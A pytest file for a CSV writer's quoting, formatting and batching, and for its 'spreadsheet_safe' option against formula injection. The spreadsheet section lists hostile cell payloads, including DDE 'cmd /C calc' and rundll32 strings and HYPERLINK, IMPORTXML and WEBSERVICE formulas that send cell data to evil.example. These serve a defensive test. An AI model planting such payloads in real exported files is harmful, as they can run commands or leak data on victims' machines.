import csv
import datetime as dt

import pyarrow as pa
import pytest

from shoal.errors import DataError
from shoal.io.csv import read_csv
from shoal.io.csv_write import write_csv


def written(table, tmp_path, **options) -> str:
    path = tmp_path / "t.csv"
    write_csv(table, path, **options)
    return path.read_bytes().decode()


def test_quotes_only_where_needed(tmp_path):
    table = pa.table({"a": ["x", "p,q", 'say "hi"', "l\nm", "c\r", " ", "é;"], "b, c": [1, 2, 3, 4, 5, 6, None]})
    assert written(table, tmp_path) == 'a,"b, c"\nx,1\n"p,q",2\n"say ""hi""",3\n"l\nm",4\n"c\r",5\n ,6\né;,\n'


def test_one_formatter(tmp_path):
    table = pa.table(
        {
            "f": [39.0, 0.1, None],
            "b": [True, False, None],
            "d": [dt.date(2020, 1, 31)] * 3,
            "t": pa.array([dt.datetime(2020, 1, 31, 9, 30)] * 3, pa.timestamp("ns")),
            "c": pa.array(["x", "x,y", None]).dictionary_encode(),
        }
    )
    assert written(table, tmp_path) == (
        "f,b,d,t,c\n39,true,2020-01-31,2020-01-31T09:30:00,x\n"
        '0.1,false,2020-01-31,2020-01-31T09:30:00,"x,y"\n,,2020-01-31,2020-01-31T09:30:00,\n'
    )


def test_missing_and_empty_text_cannot_be_told_apart(tmp_path):
    """Otherwise a stranger would see classes that the verifier, which takes both for missing, did not count."""
    for value in ("", None):
        assert written(pa.table({"a": ["x", value], "b": ["y", "z"]}), tmp_path) == "a,b\nx,y\n,z\n"
        assert written(pa.table({"a": ["x", value]}), tmp_path) == 'a\nx\n""\n'
    assert read_csv(tmp_path / "t.csv").column("a").to_pylist() == ["x", None]


def test_batches_do_not_matter(tmp_path):
    table = pa.table({"a": [f"v{i}" if i % 3 else None for i in range(200_000)], "n": list(range(200_000))})
    whole = written(table, tmp_path)
    path = tmp_path / "r.csv"
    pieces = pa.concat_tables([table.slice(0, 1), table.slice(1, 99_999), table.slice(100_000)])
    assert write_csv(pieces.to_reader(max_chunksize=777), path) == 200_000
    assert path.read_bytes().decode() == whole
    assert whole == "a,n\n" + "".join(f"{f'v{i}' if i % 3 else ''},{i}\n" for i in range(200_000))


def test_no_rows(tmp_path):
    assert written(pa.table({"a": pa.array([], pa.string()), "b": pa.array([], pa.int64())}), tmp_path) == "a,b\n"


# ---- spreadsheets ------------------------------------------------------------------------------------------------------------

COMMANDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    "SUM(A1:A9)",
    "A1",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    "rundll32|'x'!A",
    "x",
    "",
    "5x",
    "--5",
]
STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r=", " =", "  +", "==", "=-", "+=", "@=", "＝", "＋"]
PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
NUMBERS = ["-5", "+5", "-5.5", "-.5", "+1e5", "-1E-5", "0", "12", "1.", "-0"]


def test_there_are_200_payloads():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_made_harmless(payload, tmp_path):
    path = tmp_path / "t.csv"
    write_csv(pa.table({"a": [payload, "safe"], "b": ["x", payload]}), path, spreadsheet_safe=True)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    for cell in (rows[1][0], rows[2][1]):
        assert cell.lstrip(" ").startswith("'")
        assert cell.replace("'", "") == payload.replace("'", "")
    assert rows[1][1] == "x"


@pytest.mark.parametrize("mark", [";", "\t", "|", "\n", "\r", "\r\n", "; "])
def test_a_cell_that_another_setting_would_split(mark, tmp_path):
    table = pa.table({"a": [f"x{mark}=1+1", "y"]})
    text = written(table, tmp_path, spreadsheet_safe=True)
    assert f"x{mark}'=1+1" in text


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number, tmp_path):
    assert written(pa.table({"a": [number]}), tmp_path, spreadsheet_safe=True) == f"a\n{number}\n"


def test_typed_numbers_and_dates_stay(tmp_path):
    table = pa.table({"n": [-5, 5], "x": [-0.5, 1e-7], "d": [dt.date(2020, 1, 1)] * 2})
    assert written(table, tmp_path, spreadsheet_safe=True) == "n,x,d\n-5,-0.5,2020-01-01\n5,1e-07,2020-01-01\n"


def test_off_by_default_and_ordinary_text_stays(tmp_path):
    table = pa.table({"a": ["=1+1", "a-b", "x@y.org", "20-29", "[20, 30[", "*"]})
    assert written(table, tmp_path).splitlines()[1] == "=1+1"
    assert written(table, tmp_path, spreadsheet_safe=True).splitlines()[2:] == [
        "a-b",
        "x@y.org",
        "20-29",
        '"[20, 30["',
        "*",
    ]


def test_names_that_are_formulas_are_refused(tmp_path):
    with pytest.raises(DataError, match="column 2"):
        write_csv(pa.table({"a": [1], "=b": [2]}), tmp_path / "t.csv", spreadsheet_safe=True)
    assert not (tmp_path / "t.csv").exists()
